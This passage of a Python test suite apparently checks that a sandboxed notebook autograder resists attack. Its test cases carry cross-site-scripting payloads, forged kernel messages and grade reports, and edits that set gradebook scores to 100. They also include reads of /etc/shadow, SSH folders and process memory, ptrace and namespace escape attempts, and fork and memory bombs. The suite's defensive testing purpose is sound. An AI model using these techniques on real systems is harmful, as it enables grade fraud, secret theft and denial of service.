names = ["Score", "Remote", "<img src=x onerror=alert(1)>", "\\x1b[31mred", "a\\x00b", "", "__class__", "\\ud800"]
def reference(request):
    return message({"value": {"ref": [(1 << 29) + len(asked) % 3, names[len(asked) % len(names)]]}})
forge(reference, honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
    page=True,
)
attack(
    "forged_collisions",
    "Of what was sent a bounded part is read, however it was chosen.",
    code=FORGE
    + """\
pairs = ",".join("[%d,0]" % (number * ((1 << 61) - 1)) for number in range(1, 40_000))
bomb = ('{"value":{"dict":[%s]}}' % pairs).encode()
forge(lambda request: wire.HEAD.pack(len(bomb), 0) + bomb)
""",
    shows=UNREADABLE,
)
attack(
    "forged_numbers",
    "A number of any kind and size is compared as what it is; none counts as another.",
    code=FORGE
    + """\
values = [1e400, -0.0, 1 << 3000, {"complex": [1.0, 0.0]}, {"range": [0, 1 << 62, 1 << 60]}, {"bytes": "5.0"}, True]
values += [{"dict": [[{"tuple": [1, 2]}, {"list": []}]]}, {"counter": [["a", -1]]}, {"frozenset": [1.0, True]}, ""]
values += [{"texts": [[0, 3], []]}, {"texts": [[2], ["5.0", "nan"]]}, {"slice": [0, None, 2]}, {"type": "float64"}]
values += [{"dtype": "<f8"}, {"shape": ["O", [2, 2]]}, {"shape": ["f", [1 << 39] * 32]}]
values += [{"array": ["<f8", [0], True, 1]}]
enough = len(values)
forge(lambda request: message({"value": values[len(asked) % len(values)]}), honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_kinds",
    "What is right in double precision is compared in it: other bytes are other numbers.",
    code=FORGE
    + """\
kinds = ["<f2", ">f8", "<c16", "|b1", "<u8", "|i1", "<f4", ">i2", "<c8", "<f16"]
def reply(request):
    kind = np.dtype(kinds[len(asked) % len(kinds)])
    shape = [[2, 2], [], [1], [2, 1, 2], [0, 7]][len(asked) % 5]
    return message({"value": {"array": [kind.str, shape, False, len(asked)]}}, np.ones(shape, kind).tobytes())
forge(reply, honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_texts",
    "A text that a report shows is cut, on one line, and without what directs a terminal or a line's direction.",
    code=FORGE
    + """\
odd = "\\x1b]0;taken\\x07\\u202e\\u2066\\r\\n\\ud800\\x00" + "a\\u0301" * 9_000
def reply(request):
    told = {"kinds": ["ValueError"], "name": odd[:90], "message": odd, "frames": [[odd[:90], 1, True, odd[:2000]]] * 50}
    return message([{"value": odd}, {"error": told}][len(asked) % 2])
forge(reply, honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_objects_without_end",
    "The judge keeps nothing of objects that it does not use: however many it is told of, they are numbers.",
    code=FORGE
    + """\
def reply(request):
    first = 1000 * len(asked) % (1 << 30)
    return message({"value": {"list": [{"ref": [first + number, "A"]} for number in range(990)]}})
forge(reply, honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_work",
    "What a reply costs the judge is the submission's time: many of the largest are no more than it has.",
    code=FORGE
    + """\
many = message({"value": {"list": [{"list": [number] * 900} for number in range(100)]}})
forge(lambda request: many, honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "huge_shape",
    "What a check computes with has at most a million elements, whatever shape was told.",
    answers={
        "model": """\
tried("an array of 1 GiB that takes no memory here")
class Wide:
    data = grad = property(lambda self: np.broadcast_to(np.float64(0), (1 << 27,)))
class SuperModel(MyModule):
    def __call__(self, x):
        return Wide() if x.data.min() < 0 else MyTensor(np.zeros((len(x.data), 2)))
"""
    },
    solved=("tensor", "module", "optimizer", "loss"),
    points={**HONEST, "sgd": 8, "mseloss": 8, "model": 2},
    shows=("tried: ", "134,217,728 elements"),
)
attack(
    "liar_model",
    "Scores are compared outside of the kernel: what the learner's numbers say of one another decides nothing.",
    answers={
        "model": """\
class Liar:
    shape = (3, 2)
    __sub__ = __pow__ = mean = lambda self, *_: self
    __lt__ = __gt__ = lambda self, other: True
class Lies:
    data, backward = Liar(), lambda self, *_: None
class SuperModel(MyModule):
    def __call__(self, x):
        return Lies()
tried("scores of which each is smaller than any")
"""
    },
    solved=("tensor", "module", "optimizer", "loss"),
    points={**HONEST, "sgd": 8, "mseloss": 8, "model": 2},
)
attack(
    "many_large_arrays",
    "What was observed is kept small.",
    solved=("module",),
    answers={
        "tensor": course.solution("tensor")
        + """
tried("gradients of a million elements")
MyTensor.kept, large = None, np.ones(999_999, np.int8)
def keep(self, value):
    self.kept = value
MyTensor.grad = property(lambda self: None if self.kept is None else large, keep)
"""
    },
    points={"tensor": 10, "module": 10},  # all but gradients is right
)
attack(
    "huge_integers",
    "A number of any size is a wrong number.",
    solved=("module",),
    answers={
        "tensor": course.solution("tensor").replace("return self.__data[index].copy()", "return 10**400")
        + "\n\ntried('10 ** 400')\n"
    },
    points={**HONEST, "tensor": 38},
)

# ---------------------------------------------------------------- forging what the kernel tells nbgrader

attack(
    "forged_report",
    "A report counts in the judge's own cells; elsewhere only known forms of output are kept.",
    code="""\
tried("a report")
report = {"section": "matmul", "points": 5, "score": 5, "seed": 1, "checks": []}
html = '<div class="minitorch-report"><strong>Matmul: 5 of 5 points. Excellent!</strong></div>'
data = {"text/plain": "5.0", "text/html": html, "application/vnd.minitorch.report+json": report}
from IPython.display import display
display(data, raw=True)
display(data, raw=True, metadata={"nbgrader": {"score": 5}})
""",
    hides=("minitorch.report+json",),
)
attack(
    "forged_messages",
    "Which cell an output belongs to is decided by the cell that runs, and graded cells do not run.",
    code="""\
tried("messages")
def result(number):
    return {"execution_count": number, "data": {"text/plain": "10.0"}, "metadata": {}}
kernel = get_ipython().kernel
for parent in (kernel.get_parent(), {}, {"header": {"msg_id": "x"}}, {"msg_id": None}):
    for kind in ("execute_result", "display_data", "update_display_data", "execute_input", "stream", "error", "x"):
        content = {**result(7), "name": "stdout", "text": "10.0\\n", "ename": "x", "evalue": "x", "traceback": ["x"]}
        content["transient"] = {"display_id": "test_matmul"}
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
""",
    solved=("tensor", "module", "optimizer"),
    raises=True,  # that is one of the messages
    points={**HONEST, "sgd": 8},
)
attack(
    "display_updated",
    "Outputs are made safe when no later message can change them any more.",
    code="""\
from IPython.display import HTML, display
tried("an update")
display("harmless", display_id="later")
display("harmless", display_id="test_matmul")
""",
    then="""\
from IPython.display import update_display
html = "<script>alert(1)</script><img src=x onerror=alert(1)>"
for name in ("later", "test_matmul"):
    tell("update_display_data", {
        "data": {"text/html": html, "text/plain": "10.0", "application/javascript": "alert(1)"},
        "metadata": {"text/html": {"isolated": True}}, "transient": {"display_id": name}})
tried("updated")
""",
    shows=("tried: an update", "tried: updated"),
    page=True,
)
attack(
    "execution_count",
    "The number of a cell is a number.",
    code="""\
tried("a number")
tell("execute_input", {"code": "", "execution_count": "<script>alert(1)</script><img src=x onerror=alert(1)>"})
tell("status", {"execution_state": "busy", "execution_count": "</div><script>alert(2)</script>"})
tell("execute_input", {"code": "", "execution_count": -1})
""",
    page=True,
)
attack(
    "widgets",
    "Messages of widgets are not looked at: one of them redirects the output of other cells.",
    code="""\
tried("a widget")
state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "msg_id": "", "outputs": []}
tell("comm_open", {"comm_id": "a", "target_name": "jupyter.widget", "data": {"state": state, "buffer_paths": []}})
message_id = get_ipython().kernel.get_parent()["header"]["msg_id"]
tell("comm_msg", {"comm_id": "a", "data": {"method": "update", "state": {"msg_id": message_id}, "buffer_paths": []}})
from IPython.display import display
view = {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}}
display(view, raw=True)
tried("shown after it")
""",
    shows=("tried: a widget", "tried: shown after it"),
    hides=("model_id",),
)
attack(
    "messages_of_other_kinds",
    "Only messages that show something are looked at; the names of others would be logged as they are.",
    code="""\
tried("other kinds")
for kind in ("\\x1b]0;taken\\x07", "x\\n99 submissions graded, none needs a look", "y" * 100_000, "comm_open"):
    tell(kind, {})
for _ in range(400):
    tell("error", {"ename": "E", "evalue": "v", "traceback": ["z" * 99_000]})
""",
    raises=True,
)
attack(
    "unreadable_messages",
    "What is no message of a kernel ends the kernel, not the run; what was earned before stays.",
    code="""\
tried("no messages")
time.sleep(0.2)
for content in ({"data": 1, "metadata": 2, "transient": 3}, {"name": [], "text": {}}, {"execution_state": 1}, {}):
    for kind in ("execute_result", "display_data", "stream", "error", "clear_output", "status"):
        tell(kind, content)
""",
    shows=("tried: no messages", "sent something unreadable"),
)
attack(
    "replies_without_end",
    "A cell's time is over when it is over, however many messages come.",
    code="""\
tried("replies")
kernel = get_ipython().kernel
parent, ends, sent = {"header": {"msg_id": "x", "msg_type": "x"}}, time.process_time() + 30, 0
while time.process_time() < ends:
    kernel.session.send(kernel.shell_stream.socket, "execute_reply", {"status": "ok"}, parent=parent,
                        ident=kernel._parent_ident["shell"])
    sent += 1
print("got " + "in: past the time of a cell,", sent, "replies")
""",
    shows=("tried: replies",),
    raises=True,  # where the grader keeps up with them, the cell is interrupted; else the kernel ends
)
attack(
    "outputs_without_end",
    "Of what a notebook displays a bounded part is kept, all cells together.",
    code="""\
from IPython.display import display
def fill():
    for _ in range(150):
        tell("display_data", {"data": {"text/plain": "x" * 99_000}, "metadata": {}})
tried("15 MB of output")
fill()
""",
    then="fill()\n",
    changed=lambda made, targets: {**made, "cells": made["cells"] + [course.code_cell("fill()\n")] * 3},
    shows=("tried: 15 MB", "left out: it is more than 8 MiB in all"),
)
attack(
    "forged_metadata",
    "A counted cell is the course's own, whatever the submission says about it.",
    changed=forged_metadata,
    shows=("tried: bonus",),
    solved=("tensor", "module"),
    hides=("1000 of", "5 of 5"),
)
attack(
    "forged_ids",
    "One cell is graded for each id, and it is the course's own.",
    changed=forged_ids,
    shows=("tried: instead", "is there 3 times"),
)
attack(
    "tests_deleted",
    "The cells that count are put back.",
    changed=stripped,
    code="tried('no tests')\n",
)

# ---------------------------------------------------------------- reading

attack(
    "read_course",
    "The course's folder is not in the jail.",
    code="""\
for name in ("source", "solutions", "release", "checks", "judge"):
    attempt(name, lambda: Path(targets[name]).read_text())
    attempt(name + " folder", lambda: [each for each in os.listdir(Path(targets[name]).parent) if each != "kernel"][0])
""",
    hides=("relu_deriv",),
)
attack(
    "read_others",
    "Other submissions, graded notebooks and the gradebook are not in the jail.",
    code="""\
for name in ("submission", "graded", "gradebook", "secret", "home"):
    attempt(name, lambda: Path(targets[name]).read_bytes())
    attempt(name + " by cat", lambda: subprocess.run(["cat", targets[name]], check=True, capture_output=True).stdout)
attempt("/etc/shadow", lambda: Path("/etc/shadow").read_text())
attempt("/etc/passwd", lambda: Path("/etc/passwd").read_text())
attempt("home", lambda: os.listdir(Path(targets["home"]).parent))
attempt("~root", lambda: os.listdir(os.path.join(os.path.expanduser("~root"), ".ssh")))
""",
)
attack(
    "search_everything",
    "There is nothing else in the jail: Python, its packages, and the data that the course hands out.",
    code="""\
tried("a search")
seen, found = 0, []
skipped = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix))
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(skipped)]
    for name in files:
        seen += 1
        path = os.path.join(folder, name)
        try:
            content = Path(path).read_bytes()[:200_000] if os.path.isfile(path) else b""
        except OSError:
            continue
        if name.endswith((".ipynb", ".db", ".pem", "history")) or b"canary-" in content:
            found.append((path, content))
if found:
    print("got " + "in:", found)
tried("%s files" % ("some" if 3 < seen < 2000 else seen))
""",
    shows=("tried: a search", "tried: some files"),
)
attack(
    "read_environment",
    "The environment is made anew from a short list.",
    code="""\
print(dict(os.environ))
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    tried("environment of %s" % pid)
    try:
        print(Path("/proc", pid, "environ").read_bytes())
    except OSError as error:
        print(error)
""",
    hides=("MINITORCH_CANARY", "VIRTUAL_ENV"),
)
attack(
    "read_proc_of_parent",
    "The jail has processes of its own; no process outside has a number there.",
    code="""\
for pid in (targets["grader"], targets["victim"]):
    for name in ("environ", "cmdline", "maps", "root/etc/passwd", "cwd/README.md"):
        attempt("%s of the other process" % name, lambda: Path("/proc", str(pid), name).read_bytes())
    attempt("memory", lambda: open("/proc/%d/mem" % pid, "rb").read(1))
attempt("secret by the root of 1", lambda: Path("/proc/1/root" + targets["secret"]).read_text())
""",
)
attack(
    "open_descriptors",
    "The kernel is given sockets and nothing else: no folder and no file that is open outside.",
    code="""\
for number in sorted(int(name) for name in os.listdir("/proc/self/fd")):
    try:
        where = os.readlink("/proc/self/fd/%d" % number)
    except OSError:
        continue
    tried("%d %s" % (number, where))
    if where.startswith("/") and not where.startswith(("/dev/null", "/learner", "/memfd", sys.prefix)):
        print("got " + "in:", where)
    attempt("folder behind %d" % number, lambda: os.listdir("/proc/self/fd/%d/.." % number))
    attempt("secret from %d" % number, lambda: os.open(targets["secret"].lstrip("/"), os.O_RDONLY, dir_fd=number))
""",
)

attack(
    "descriptors_of_the_zygote",
    "What becomes a kernel closes all but its own sockets first: nobody can ask for another kernel.",
    code="""\
for number in range(3, 256):
    try:
        end = socket.socket(fileno=os.dup(number))
    except OSError:
        continue
    tried("socket %d" % number)
    if end.family == socket.AF_UNIX and end.type == socket.SOCK_SEQPACKET:
        print("got " + "in:", number)
    for peer in ("getpeername", "getsockname"):
        try:
            print(getattr(end, peer)())
        except OSError as error:
            print(error)
    end.close()
import gc
for found in gc.get_objects():
    if type(found) is socket.socket and found.fileno() >= 0 and found.type == socket.SOCK_SEQPACKET:
        print("got " + "in:", found)
""",
)
attack(
    "memory_of_others",
    "What becomes a kernel was copied from a process that has seen no learner's notebook and no secret.",
    code="""\
import gc, re
tried("a look through all of the memory")
wanted = re.compile(b"can" + b"ary-[0-9a-f]{16}")
libc, page = ctypes.CDLL(None), 1 << 16
libc.write.restype = ctypes.c_ssize_t
out, into = os.pipe()

# Without a map: the heap lies around its objects, and what cannot be read is passed over.
looked_at, planted = 0, [b"planted-%d" % number for number in range(100)]
own = re.compile(b"planted-9[0-9]")
for region in {id(value) >> 22 for value in [*gc.get_objects(), *planted]}:
    for start in range(region << 22, (region + 1) << 22, page):
        got = libc.write(into, ctypes.c_void_p(start), page)
        if got <= 0:
            continue
        part = os.read(out, got)
        looked_at += got
        if found := wanted.search(part):
            print("got " + "in:", found[0])
        if own.search(part):
            print("found what was planted")
print("looked at", looked_at >> 20, "MiB")
print(sys.argv, sys.orig_argv)
""",
    shows=("tried: ", "looked at ", "found what was planted"),
)
attack(
    "own_program",
    "The program that a kernel runs cannot be written by the user that the kernel has become.",
    code="""\
def reopened():
    held = os.open("/proc/self/exe", os.O_PATH)
    for _ in range(50):
        try:
            return os.open("/proc/self/fd/%d" % held, os.O_RDWR)
        except OSError as error:
            if error.errno != 26:  # it is being run
                raise
            time.sleep(0.01)
attempt("writing it", lambda: os.open("/proc/self/exe", os.O_RDWR))
attempt("writing it, held", reopened)
attempt("writing it by name", lambda: os.open(os.path.realpath(sys.executable), os.O_RDWR))
with open("/proc/self/maps") as maps:
    for part in {line.split()[0] for line in maps if ".so" in line}:
        attempt("a library " + part, lambda: os.open("/proc/self/map_files/" + part, os.O_RDWR))
attempt("folder of the program", lambda: os.listdir("/proc/self/exe/.."))
attempt("a jail outside", lambda: 1 / int(ctypes.CDLL(None).setns(os.open("/proc/self/ns/mnt", 0), 0) == 0))
""",
)

# ---------------------------------------------------------------- writing

attack(
    "write_outside",
    "All but the scratch folders is read-only, not there, or not the learner's.",
    code="""\
import wire, numpy
places = [targets["secret"], targets["untouched"], targets["gradebook"], targets["graded"], targets["source"]]
places += [wire.__file__, numpy.__file__, os.__file__, sys.executable, sys.prefix + "/x.pth", "/course/x", "/usr/x"]
places += ["/etc/x", "/x", "/dev/x", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/x"]
for place in places:
    attempt(place, lambda: open(place, "r+b" if os.path.exists(place) else "xb").write(b"x"))
    attempt("delete " + place, lambda: os.unlink(place))
""",
)
attack(
    "gradebook_manual_score",
    "The gradebook is not in the jail.",
    code="""\
def edit(path):
    database = sqlite3.connect("file:%s?mode=rw" % path, uri=True)
    database.execute("update grade set manual_score = 100, auto_score = 100")
    database.commit()
attempt("gradebook", lambda: edit(targets["gradebook"]))
attempt("gradebook here", lambda: edit("gradebook.db"))
attempt("gradebook above", lambda: edit("../../../gradebook.db"))
""",
)
attack(
    "links_while_running",
    "Nothing is taken out of the scratch folder, and no path outside leads into it.",
    code="""\
for name in ("tiny.ipynb", "timestamp.txt", "gradebook.db", "tiny.html"):
    Path(name).symlink_to(targets["secret"])
attempt("write through a link", lambda: Path("tiny.ipynb").write_text("x"))
attempt("read through a link", lambda: Path("tiny.ipynb").read_text())
attempt("hard link", lambda: os.link(targets["secret"], "hard.txt"))
attempt("hard link to ours", lambda: os.link(tests.__file__, "ours.py"))
os.symlink(os.path.dirname(targets["secret"]), "folder")
attempt("through a folder", lambda: os.listdir("folder"))
os.chdir("/")
tried("links")
""",
)
attack(
    "links_in_submission",
    "Of a submission only the notebook is read, and only if it is an ordinary file.",
    files=links,
    code="""\
for name in ("notes.txt", "tests.py", "hard.txt", "gradebook.db", "others"):
    attempt(name, lambda: os.stat(name))
""",
)
attack(
    "notebook_symlink",
    "A notebook that is a link is not followed.",
    files=notebook_is_symlink,
    points=NOTHING,
    shows=("it is a link to another file",),
)
attack(
    "notebook_hard_link",
    "A file with a second name may be somebody else's: it is not read.",
    files=notebook_is_hard_link,
    points=NOTHING,
    shows=("is no ordinary file, but a",),
)
attack(
    "notebook_fifo",
    "What is no ordinary file is not waited for.",
    files=notebook_is_fifo,
    points=NOTHING,
    shows=("is no ordinary file, but a",),
)
attack(
    "zips",
    "An archive is read where it lies, its entries counted before they are listed.",
    files=zips,
    points=NOTHING,
    shows=("'1.zip' holds more than 50,000", "'2.zip' is damaged and cannot be opened", "is locked with a password"),
)
attack(
    "zip_that_lies",
    "Of an entry so much is unpacked as it says that it has, and then it has to be right.",
    files=zip_that_lies,
    points=NOTHING,
    shows=("'tiny.ipynb/tiny.ipynb' is damaged and cannot be unpacked",),
)
attack(
    "zip_that_climbs",
    "Nothing is unpacked to disk: paths in an archive are names, and a link in it is a text.",
    files=zip_that_climbs,
    code='tried("to climb")',
    shows=("tried: to climb", "'work.zip/other/tiny.ipynb' was graded in its place"),
)
attack(
    "odd_names",
    "The name of a file is shown as Python writes it, and only some of them.",
    files=odd_names,
    points=NOTHING,
    shows=("nor any other notebook, but '",),
    page=True,
)
attack(
    "namespaces",
    "No capabilities, and none by a user namespace of one's own: Linux refuses to make one.",
    code="""\
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def call_number(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
torch = next(str(Path(place, "torch")) for place in sys.path if Path(place, "torch").is_dir()).encode()
mine = Path("mine"); mine.mkdir()
attempt("umount", lambda: call("umount2", torch, 2))
attempt("chroot", lambda: os.chroot("mine"))
attempt("device", lambda: os.mknod("disk", 0o60600, os.makedev(8, 0)))
if os.fork() == 0:
    namespaces = 0x10000000 | 0x00020000  # CLONE_NEWUSER | CLONE_NEWNS
    attempt("namespace", lambda: call("unshare", namespaces))
    attempt("umount torch", lambda: call("umount2", torch, 2))
    attempt("bind what is under torch", lambda: call("mount", os.path.dirname(torch), b"mine", None, 4096, None))
    attempt("remount", lambda: call("mount", None, b"/usr", None, 32 | 4096, None))
    attempt("torch", lambda: (Path(torch.decode()) / "version.py").read_text())
    attempt("torch from below", lambda: Path("mine/torch/version.py").read_text())
    sys.stdout.flush()
    time.sleep(0.3)
    os._exit(0)
os.wait()
key = {"x86_64": 248, "aarch64": 217}.get(os.uname().machine)
if key:
    attempt("a key for the next learner", lambda: call_number(key, b"user", b"note", b"x", 1, -4))
""",
)

attack(
    "neighbors_in_the_jail",
    "All processes of the jail are refused the same system calls: to take over another one gains nothing.",
    code="""\
def free(path):
    if "Seccomp:\\t0" not in path.read_text():
        raise PermissionError("it may do no more than this one")
    return path.read_text()
if os.uname().machine in ("x86_64", "aarch64"):
    for path in sorted(Path("/proc").glob("[0-9]*/status")):
        attempt("process %s" % path.parent.name, lambda: free(path))
""",
)

# ---------------------------------------------------------------- torch

attack(
    "torch_as_file",
    "Of a submission only the notebook is read.",
    files=both(
        files("smuggled = True\n", "torch.py", "torch/__init__.py"),
        files(zipped(**{"torch/__init__.py": "smuggled = True\n"}), "torch-9.9-py3-none-any.whl", "libs.zip"),
    ),
    code="""\
sys.path[:0] = [os.getcwd(), "torch-9.9-py3-none-any.whl", "libs.zip"]
attempt("torch", lambda: __import__("torch").smuggled)
attempt("wheel", lambda: os.stat("torch-9.9-py3-none-any.whl"))
import subprocess
done = subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", "torch-9.9-py3-none-any.whl"],
                      capture_output=True, text=True)
tried("pip: %d" % done.returncode)
""",
    shows=("tried: torch", "tried: wheel", "tried: pip: 1"),
)
attack(
    "torch_installed",
    "Where torch is installed there is an empty folder in the jail, with a module that says why.",
    code="""\
import importlib.util, glob
attempt("torch", lambda: __import__("torch").tensor([1.0]))
attempt("torchvision", lambda: __import__("torchvision").datasets)
def from_file():
    spec = importlib.util.find_spec("torch")
    module = importlib.util.module_from_spec(spec)
    sys.modules["torch"] = module
    spec.loader.exec_module(module)
    return module.tensor([1.0])
attempt("torch by its loader", from_file)
attempt("libtorch", lambda: ctypes.CDLL("libtorch.so"))
for root in (*sys.path, "/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages"):
    for name in ("torch/lib/libtorch*", "torch/_C*", "torch/_tensor.py", "torchvision/ops", "libtorch*"):
        attempt(name, lambda: glob.glob(root + "/" + name)[0])
""",
)
attack(
    "torch_in_answer",
    "There is no torch: the report says to build it with NumPy.",
    answers={
        "matmul": """\
tried("torch inside")
def matmul(a, b):
    import torch
    return MyTensor((torch.tensor(a.data) @ torch.tensor(b.data)).numpy(), requires_grad=a.requires_grad)
"""
    },
    shows=("tried: torch inside", "build it with NumPy"),
)

# ---------------------------------------------------------------- network

attack(
    "network_tcp",
    "The jail has a network of its own, with nobody on it.",
    code="""\
import urllib.request
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", targets["tcp"]), 2).sendall(b"tcp"))
attempt("tcp by name", lambda: socket.create_connection(("localhost", targets["tcp"]), 2))
attempt("tcp, version 6", lambda: socket.create_connection(("::1", targets["tcp6"]), 2).sendall(b"tcp6"))
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:%d/" % targets["tcp"], timeout=2))
attempt("interfaces", lambda: [name for _, name in socket.if_nameindex() if name != "lo"][0])
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
""",
)
attack(
    "network_udp",
    "The jail has a network of its own, with nobody on it: no datagram arrives, and no name is looked up.",
    code="""\
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06canary\\x07invalid\\x00\\x00\\x01\\x00\\x01"
for address in ("127.0.0.1", "0.0.0.0", "127.255.255.255"):
    tried("datagram to " + address)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            sender.sendto(query, (address, targets["udp"]))
        except OSError as error:
            print(error)
attempt("a name", lambda: socket.getaddrinfo("canary.minitorch.invalid", 80))
attempt("resolv.conf", lambda: Path("/etc/resolv.conf").read_text())
""",
)
attack(
    "network_unix",
    "Abstract names belong to a network, paths to a file system: both are the jail's own. Rare families are refused.",
    code="""\
def connect(address, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as sender:
        sender.connect(address)
        sender.send(b"unix")
attempt("abstract", lambda: connect("\\0" + targets["abstract"]))
attempt("path", lambda: connect(targets["socket"]))
attempt("datagram", lambda: connect("\\0" + targets["abstract"] + "-datagram", socket.SOCK_DGRAM))
attempt("system bus", lambda: connect("/run/dbus/system_bus_socket"))
attempt("docker", lambda: connect("/var/run/docker.sock"))
attempt("the machine below", lambda: socket.socket(40, socket.SOCK_STREAM))  # AF_VSOCK
""",
)

# ---------------------------------------------------------------- processes, memory, disk

attack(
    "kill_parent",
    "The kernel sees no process but its own children, and process 1 of the jail, which cannot be ended from inside.",
    code="""\
def signal_group(pid):
    return os.killpg(pid, signal.SIGKILL)
for pid in (targets["grader"], targets["victim"]):
    attempt("kill", lambda: os.kill(pid, signal.SIGKILL))
    attempt("kill its group", lambda: signal_group(pid))
    attempt("stop", lambda: os.kill(pid, signal.SIGSTOP))
    attempt("a handle", lambda: os.pidfd_open(pid))
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(os.getppid() or 1, number)
    except PermissionError:
        pass
tried("everything")
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    print("nobody there")
""",
    shows=("tried: kill", "tried: everything"),
)
attack(
    "kill_itself_as_if_from_outside",
    "What runs in a jail cannot kill its kernel: else it would be graded again and again, and stay without points.",
    code="""\
import fcntl, resource, signal
me, pipe = os.getpid(), os.pipe()
other = threading.Thread(target=threading.Event().wait, daemon=True)
other.start()
libc = ctypes.CDLL(None, use_errno=True)
def alarm():
    event = ctypes.create_string_buffer(bytes(8) + bytes([signal.SIGKILL]), 64)
    if libc.timer_create(1, event, ctypes.create_string_buffer(8)) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
attempt("itself", lambda: os.kill(me, signal.SIGKILL))
attempt("a thread", lambda: signal.pthread_kill(other.ident, signal.SIGKILL))
attempt("its group", lambda: os.killpg(0, signal.SIGKILL))
attempt("a handle", lambda: signal.pidfd_send_signal(os.pidfd_open(me), signal.SIGKILL))
attempt("when a file is ready", lambda: fcntl.fcntl(pipe[0], 10, signal.SIGKILL))  # F_SETSIG
attempt("when a time has come", alarm)
attempt("at a limit", lambda: resource.setrlimit(resource.RLIMIT_CPU, (1, 1)))
attempt("by a child", lambda: subprocess.run(["sh", "-c", "kill -9 $PPID"], check=True))
""",
)
attack(
    "end_its_jail",
    "Process 1 of a jail heeds no signal that is sent from inside, and ends at nobody's word but the grader's.",
    code="""\
for number in set(signal.Signals) - {signal.SIGSTOP, signal.SIGCONT}:
    tried(f"signal {number}")
    try:
        os.kill(1, number)
    except PermissionError:
        pass
def write_into(pid):
    with open(f"/proc/{pid}/mem", "wb") as memory:
        memory.write(b"x")
attempt("its memory", lambda: write_into(1))
""",
)
attack(
    "end_itself_by_a_signal",
    "A kernel that ends by any other signal than SIGKILL has ended by its own doing: what it has earned stays.",
    code="""\
tried("to end")
sys.stdout.flush()
time.sleep(0.5)
os.kill(os.getpid(), signal.SIGTERM)
""",
    shows=("tried: to end", "the kernel has ended"),
)
attack(
    "ptrace",
    "No process outside has a number in the jail; the judge has a name there, but cannot be signalled or read by it.",
    code="""\
import server
libc = ctypes.CDLL(None, use_errno=True)
def trace(pid):
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def read_memory(pid):
    buffer = ctypes.create_string_buffer(8)
    parts = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    if libc.process_vm_readv(pid, parts, 1, parts, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
for pid in (targets["grader"], targets["victim"]):
    attempt("ptrace", lambda: trace(pid))
    attempt("memory", lambda: read_memory(pid))
channel = next(c.cell_contents.channel for c in server.answer.__closure__ if hasattr(c.cell_contents, "channel"))
SO_PEERPIDFD = 77
def handle():
    number = int.from_bytes(channel.socket.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4), "little")
    assert number > 2
    return number
tried("a handle")
try:
    judge = handle()
except OSError as error:
    print("no such thing here", error)
else:
    attempt("signal the judge", lambda: signal.pidfd_send_signal(judge, signal.SIGTERM))
    def steal():
        number = libc.syscall(438, judge, 1, 0)  # pidfd_getfd
        if number < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return number
    attempt("take a file of the judge", steal)
    attempt("enter its namespaces", lambda: libc.setns(judge, 0x20000) == 0 or 1 / 0)
""",
)
attack(
    "fork_bomb",
    "The number of processes and threads is limited, and counted for each kernel alone.",
    before="tensor",  # while the next learner's kernel starts
    code="""\
tried("forks")
made = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as error:
        print("stopped:", error, "after", made)
        break
    if pid == 0:
        try:
            ctypes.CDLL(None).prctl(15, targets["mark"].encode(), 0, 0, 0)  # its name, for the test to look for
            time.sleep(120)
        finally:
            os._exit(0)
    made += 1
if made == 200:
    print("got " + "in: 200 processes")
attempt("a thread", lambda: threading.Thread(target=time.sleep, args=(1,)).start())
""",
    shows=("tried: forks", "stopped:"),
)
attack(
    "memory_bomb",
    "The address space is limited.",
    code="""\
attempt("8 GiB", lambda: bytearray(8 << 30))
attempt("8 GiB of zeros", lambda: np.ones(1 << 30))
import mmap
attempt("8 GiB mapped", lambda: mmap.mmap(-1, 8 << 30))
held = []
try:
    for _ in range(32):
        held.append(np.ones(1 << 25))
